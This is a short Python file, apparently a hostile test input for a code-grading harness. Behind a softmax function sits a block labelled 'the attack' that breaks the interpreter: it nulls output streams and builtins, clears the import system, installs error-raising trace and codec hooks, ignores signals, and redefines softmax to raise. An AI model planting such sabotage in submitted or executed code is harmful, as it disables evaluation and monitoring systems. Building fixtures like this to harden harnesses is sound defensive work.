"""Takes apart the interpreter: streams, tracing, signals, collector, encodings."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import builtins
import codecs
import gc
import signal
import sys

gc.disable()
gc.set_threshold(1)
sys.settrace(lambda *args: 1 / 0)
sys.setprofile(lambda *args: None)
sys.setswitchinterval(1e-9)
sys.stdout = sys.stderr = sys.__stdout__ = None
sys.excepthook = sys.unraisablehook = sys.displayhook = None
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
codecs.register(lambda name: 1 / 0)
sys.meta_path.clear()
sys.path_hooks.clear()
sys.modules.clear()
builtins.__import__ = builtins.open = builtins.print = builtins.repr = None


def softmax(scores):
    sys.settrace(lambda *args: 1 / 0)
    raise ValueError
